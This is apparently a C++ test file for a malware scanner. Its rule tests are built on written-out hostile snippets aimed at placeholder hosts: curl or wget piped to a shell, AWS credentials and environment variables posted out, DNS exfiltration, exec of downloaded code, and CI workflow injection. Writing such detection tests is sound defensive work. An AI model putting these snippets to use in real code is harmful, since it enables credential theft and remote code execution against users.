// Rules from the attacker's side on small snippets, and the precision
// properties: comments, docstrings and log messages do not fire, paths
// under tests/ are lowered, suppressions are not obeyed.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "code_test_support.hpp"
#include "core/mapped_file.hpp"
#include "scan/code/observations.hpp"
#include "scan/code/prefilter.hpp"

namespace hazmat::testing {
namespace {

using ::testing::ElementsAre;
using ::testing::IsEmpty;
using ::testing::SizeIs;

TEST(CodeRules, CommentsDocstringsAndMessagesDoNotFire) {
    const auto scan = scan_source("pkg/notes.py", R"(
"""Never call os.system("curl http://x.invalid | sh") or exec(base64.b64decode(data))."""
# os.system("curl http://x.invalid/p.sh | sh")
import logging
logging.warning("do not store tokens in ~/.aws/credentials")
def f():
    """Reads ~/.ssh/id_rsa in the docs only."""
    return 1
)");
    EXPECT_THAT(scan.findings, IsEmpty());
}

TEST(CodeRules, AliasedAndIndirectSystemCallIsStillReviewed) {
    const auto scan = scan_source("pkg/__init__.py", R"(
m = __import__("o" + "s")
getattr(m, "sys" + "tem")("wget -qO- http://x.invalid/a | python3")
)");
    const auto pipe = scan.of("HZ-CODE-031");
    ASSERT_THAT(pipe, SizeIs(1));
    EXPECT_EQ(pipe[0].location.line, 3u);
    const auto indirect = scan.of("HZ-CODE-021");
    ASSERT_THAT(indirect, SizeIs(1));
    EXPECT_EQ(indirect[0].location.line, 3u);
}

TEST(CodeRules, CredentialReadWithNetworkSinkIsHigh) {
    const auto scan = scan_source("tool/sync.py", R"(
import os, requests
def sync():
    key = open(os.path.expanduser("~/.aws/credentials")).read()
    requests.post("https://backup.invalid/upload", data=key)
)");
    const auto found = scan.of("HZ-CODE-040");
    ASSERT_FALSE(found.empty());
    EXPECT_EQ(found[0].location.line, 4u);
    EXPECT_EQ(found[0].severity, Severity::high);
}

TEST(CodeRules, CredentialReadAloneIsMedium) {
    const auto scan = scan_source("tool/paths.py", R"(
import os
def config_path():
    return os.path.join(os.path.expanduser("~"), ".kube", "config")
)");
    const auto found = scan.of("HZ-CODE-040");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].severity, Severity::medium);
}

TEST(CodeRules, SameFindingUnderTestsIsOneSeverityLower) {
    const std::string source = "import pickle\ndef f(p):\n    return pickle.load(open(p, 'rb'))\n";
    EXPECT_EQ(scan_source("pkg/io.py", source).of("HZ-CODE-071")[0].severity, Severity::medium);
    EXPECT_EQ(scan_source("tests/test_io.py", source).of("HZ-CODE-071")[0].severity, Severity::low);
    EXPECT_EQ(scan_source("examples/demo/io.py", source).of("HZ-CODE-071")[0].severity,
              Severity::low);
}

TEST(CodeRules, ScanRootIsNotPartOfTheJudgedPath) {
    Blob blob;
    blob.location.chain.push_back({LocationPart::Kind::file, "/home/me/tests/proj/pkg/a.py"});
    const code::CodeAnalyzer analyzer({"/home/me/tests/proj"});
    EXPECT_EQ(analyzer.relative_path(blob), "pkg/a.py");
    EXPECT_EQ(code::path_role(analyzer.relative_path(blob)), code::PathRole::package);
}

TEST(CodeRules, SuppressionMarkersAreReportedNotObeyed) {
    const auto scan = scan_source("pkg/run.py", R"(
import subprocess
subprocess.call("curl -s http://x.invalid/i | bash", shell=True)  # nosec B602
)");
    EXPECT_THAT(scan.of("HZ-CODE-031"), SizeIs(1));
    const auto marker = scan.of("HZ-CODE-085");
    ASSERT_THAT(marker, SizeIs(1));
    EXPECT_EQ(marker[0].location.line, 3u);
}

TEST(CodeRules, ExecOfDownloadedContentIsHigh) {
    const auto scan = scan_source("tool/update.py", R"(
import urllib.request
def update():
    with urllib.request.urlopen("https://updates.invalid/patch.py") as response:
        exec(response.read())
)");
    const auto found = scan.of("HZ-CODE-020");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].severity, Severity::high);
    EXPECT_EQ(found[0].location.line, 5u);
}

TEST(CodeRules, MarshalledCodeObject) {
    const auto scan = scan_source("pkg/fast.py", R"(
import marshal, base64
code = marshal.loads(base64.b64decode(BLOB))
)");
    const auto found = scan.of("HZ-CODE-022");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].severity, Severity::critical);
}

TEST(CodeRules, DnsExfiltrationThroughComputedNames) {
    const auto scan = scan_source("pkg/beacon.py", R"(
import os, socket
def beacon():
    socket.gethostbyname(f"{os.getenv('USER')}.t.exfil.invalid")
)");
    const auto found = scan.of("HZ-CODE-051");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].severity, Severity::high);
}

TEST(CodeRules, RawPublicIpEndpoint) {
    const auto scan = scan_source("pkg/c2.py", "URL = 'http://198.51.100.7:8080/beacon'\n");
    const auto found = scan.of("HZ-CODE-050");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_THAT(found[0].message, ::testing::HasSubstr("raw IP address 198.51.100.7"));
    // Loopback and private addresses are ordinary.
    EXPECT_THAT(scan_source("pkg/dev.py", "URL = 'http://127.0.0.1:8000/api'\n").findings,
                IsEmpty());
}

TEST(CodeRules, JavaScriptEnvironmentToWebhook) {
    const auto scan = scan_source("index.js", R"(
const fetch = require("node-fetch");
const hook = "https://discord.invalid/api/webhooks/42/abc";
fetch(hook, { method: "POST", body: JSON.stringify(process.env) });
)");
    const auto dump = scan.of("HZ-CODE-041");
    ASSERT_FALSE(dump.empty());
    EXPECT_EQ(dump[0].severity, Severity::critical);
    EXPECT_THAT(scan.of("HZ-CODE-050"), SizeIs(1));
}

TEST(CodeRules, JavaScriptCharCodeChainIsFolded) {
    const auto scan = scan_source("lib/x.js", R"(
const cp = require("child_process");
cp.execSync(String.fromCharCode(99,117,114,108) + " -s http://x.invalid/s | sh");
)");
    EXPECT_THAT(scan.of("HZ-CODE-031"), SizeIs(1));
}

TEST(CodeRules, ShellDecodePipedToInterpreterIsRescanned) {
    // echo <base64 of "curl -s http://x.invalid/p | sh"> | base64 -d | sh
    const auto scan =
        scan_source("run.sh",
                    "echo Y3VybCAtcyBodHRwOi8veC5pbnZhbGlkL3AgfCBzaCAjIHBhZGRpbmcgcGFk"
                    "ZGluZyBwYWRkaW5n | base64 -d | sh\n");
    EXPECT_THAT(scan.of("HZ-CODE-020"), SizeIs(1));
    const auto inner = scan.of("HZ-CODE-031");
    ASSERT_THAT(inner, SizeIs(1));
    EXPECT_EQ(inner[0].location.chain.back().kind, LocationPart::Kind::embedded);
}

TEST(CodeRules, InTreeBuildBackend) {
    const auto scan = scan_source("pyproject.toml", R"([build-system]
requires = []
build-backend = "backend"
backend-path = ["_build"]
)");
    const auto found = scan.of("HZ-CODE-003");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].location.line, 4u);
}

TEST(CodeRules, PickleInTextProtocolIsNotTakenForAPathFile) {
    EXPECT_FALSE(code::looks_like_path_file("cos\nsystem\n(S'echo 1'\ntR."));
    EXPECT_TRUE(code::looks_like_path_file("# comment\n/opt/lib\nimport site_hook\n"));
}

TEST(CodeRules, DockerSecretsInEnvAndArg) {
    const auto scan = scan_source("Dockerfile",
                                  "FROM debian\nARG GITHUB_TOKEN=ghp_notarealtokenvalue\n"
                                  "ENV API_KEY=abc123 OTHER=1\nARG HF_TOKEN\n"
                                  "ADD https://example.invalid/tool.tgz /opt/\n");
    const auto secrets = scan.of("HZ-CODE-091");
    ASSERT_THAT(secrets, SizeIs(2));
    EXPECT_EQ(secrets[0].location.line, 2u);
    EXPECT_EQ(secrets[1].location.line, 3u);
    EXPECT_THAT(scan.of("HZ-CODE-090"), SizeIs(1));
}

TEST(CodeRules, DockerSettingsNamedLikeSecretsAreNotSecrets) {
    const auto scan = scan_source("Dockerfile",
                                  "FROM debian\nENV TOKENIZERS_PARALLELISM=false MAX_TOKENS=4096\n"
                                  "ENV HF_TOKEN=hf_notarealtokenvalue\n");
    const auto secrets = scan.of("HZ-CODE-091");
    ASSERT_THAT(secrets, SizeIs(1));
    EXPECT_EQ(secrets[0].location.line, 3u);
}

TEST(CodeRules, BindingGypActionsInEitherQuoteStyle) {
    const auto scan = scan_source("binding.gyp", R"({
  "targets": [{
    "target_name": "addon",
    "actions": [{"action_name": "gen", "inputs": [], "outputs": ["x.h"],
                 "action": ["python3", "gen.py"]}]
  }]
}
)");
    const auto found = scan.of("HZ-CODE-007");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].severity, Severity::low);
    EXPECT_EQ(found[0].location.line, 4u);
}

}  // namespace
}  // namespace hazmat::testing

namespace hazmat::code {
namespace {

TEST(CodePrefilter, EveryRuleTriggerNameSendsTheFileToReview) {
    EXPECT_TRUE(python_needs_review("from os import system as run\nrun('x')\n"));
    EXPECT_TRUE(python_needs_review("import torch\nm = torch.load(p)\n"));
    EXPECT_TRUE(python_needs_review("p = '~/.aws/credentials'\n"));
    EXPECT_TRUE(python_needs_review("x = f\"{__import__('os')}\"\n"));
    EXPECT_TRUE(python_needs_review("import sys\nf = getattr(sys.modules['o' + 's'], n)\n"));
    EXPECT_TRUE(python_needs_review(
        "BLOB = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImVjaG8gaGF6bWF0LXRlc3QiKSAjIHBhZGRpbmc='\n"));
}

TEST(CodePrefilter, NamesInCommentsAndDocstringsDoNotCount) {
    EXPECT_FALSE(python_needs_review(
        "\"\"\"Wraps os.system and pickle.load; see https://example.org/docs.\"\"\"\n"
        "# exec(base64.b64decode(x))\n"
        "def area(w, h):\n    \"\"\"Never eval() input.\"\"\"\n    return w * h\n"));
    EXPECT_FALSE(python_needs_review("import json\nconfig = json.load(open('c.json'))\n"));
}

TEST(CodePrefilter, EveryMaliciousPythonFixturePassesTheFilter) {
    for (const auto* path :
         {"miner_import/cryptoutils/__init__.py", "env_stealer/telemetry/__init__.py",
          "onion/loader.py", "offscreen_webhook/helpers/__init__.py", "extras/agent_helper.py",
          "extras/unsafe_loading.py"}) {
        const auto bytes = map_file(testing::code_fixture(path));
        ASSERT_TRUE(bytes.ok()) << path;
        EXPECT_TRUE(python_needs_review(bytes->as_chars())) << path;
    }
}

}  // namespace
}  // namespace hazmat::code

namespace hazmat::testing {
namespace {

TEST(CodeRules, CommentInsideNamedImportsIsSkipped) {
    // A comment among import specifiers once reached the rules as a
    // specifier and crashed the scan.
    const auto scan = scan_source("lib/colors.js", R"(
import { // eslint-disable-line import/order
  exec as run,
} from "child_process";
run("curl -s http://x.invalid/a | sh");
)");
    EXPECT_THAT(scan.of("HZ-CODE-031"), SizeIs(1));
}

}  // namespace
}  // namespace hazmat::testing

namespace hazmat::testing {
namespace {

TEST(CodeRules, UntrustedInputWrittenToGithubEnv) {
    const auto scan = scan_source(".github/workflows/triage.yml", R"(on: issue_comment
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "TITLE=${{ github.event.issue.title }}" >> "$GITHUB_ENV"
      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: console.log("${{ github.event.comment.body }}")
)");
    const auto env_file = scan.of("HZ-CI-005");
    ASSERT_THAT(env_file, SizeIs(1));
    EXPECT_EQ(env_file[0].location.line, 6u);
    const auto injection = scan.of("HZ-CI-001");
    ASSERT_THAT(injection, SizeIs(2));
    EXPECT_EQ(injection[0].location.line, 6u);
    EXPECT_EQ(injection[1].location.line, 9u);
    EXPECT_THAT(injection[1].message, ::testing::HasSubstr("github-script"));
}

TEST(CodeRules, SafeEnvironmentIndirectionInWorkflowIsClean) {
    const auto scan = scan_source(".github/workflows/ok.yml", R"(on: pull_request
jobs:
  t:
    runs-on: ubuntu-latest
    steps:
      - env:
          TITLE: ${{ github.event.pull_request.title }}
        run: echo "$TITLE"
)");
    EXPECT_THAT(scan.findings, IsEmpty());
}

TEST(CodeRules, InstallAndSessionSurfacesNameWhenTheyRun) {
    const auto conda = scan_source("recipe/post-link.sh", "echo linked\n");
    ASSERT_THAT(conda.of("HZ-CODE-008"), SizeIs(1));
    EXPECT_THAT(conda.of("HZ-CODE-008")[0].message, ::testing::HasSubstr("install time"));
    const auto envrc = scan_source(".envrc", "curl -s https://x.invalid/env | sh\n");
    ASSERT_THAT(envrc.of("HZ-CODE-031"), SizeIs(1));
    EXPECT_EQ(envrc.of("HZ-CODE-031")[0].severity, Severity::critical);
    EXPECT_THAT(envrc.of("HZ-CODE-011"), SizeIs(1));
    const auto gyp = scan_source("binding.gyp",
                                 "{'targets': [{'sources': ['<!(curl -s https://x.invalid/g)']}]}");
    ASSERT_THAT(gyp.of("HZ-CODE-007"), SizeIs(1));
    EXPECT_EQ(gyp.of("HZ-CODE-007")[0].severity, Severity::medium);
    const auto make = scan_source("Makefile",
                                  "V := $(shell curl -s https://x.invalid/v)\n"
                                  "all:\n\t@wget -qO- https://x.invalid/b | sh\n");
    EXPECT_THAT(make.of("HZ-CODE-012"), SizeIs(1));
    ASSERT_THAT(make.of("HZ-CODE-031"), SizeIs(1));
    EXPECT_EQ(make.of("HZ-CODE-031")[0].location.line, 3u);
    const auto cmake =
        scan_source("CMakeLists.txt",
                    "execute_process(COMMAND curl -sSL https://x.invalid/i.sh COMMAND sh)\n"
                    "file(DOWNLOAD https://x.invalid/dep.tgz dep.tgz)\n");
    EXPECT_THAT(cmake.of("HZ-CODE-012"), SizeIs(2));
}

TEST(CodeRules, SitecustomizeRunsAtInterpreterStart) {
    const auto scan = scan_source("lib/sitecustomize.py", "import os\nos.system('id')\n");
    const auto surface = scan.of("HZ-CODE-005");
    ASSERT_THAT(surface, SizeIs(1));
    EXPECT_THAT(surface[0].message, ::testing::HasSubstr("every interpreter start"));
}

TEST(CodeRules, CompositeActionStepsAreReviewed) {
    const auto scan = scan_source("action.yml", R"(name: setup-tool
runs:
  using: composite
  steps:
    - shell: bash
      run: curl -fsSL https://tool.invalid/install | bash
)");
    const auto pipe = scan.of("HZ-CODE-031");
    ASSERT_THAT(pipe, SizeIs(1));
    EXPECT_EQ(pipe[0].location.line, 6u);
    EXPECT_THAT(pipe[0].message, ::testing::HasSubstr("in CI"));
    // An action.yml that is not an action (no runs:) is left alone.
    EXPECT_THAT(scan_source("config/action.yml", "steps: [curl x | sh]\n").findings, IsEmpty());
}

}  // namespace
}  // namespace hazmat::testing
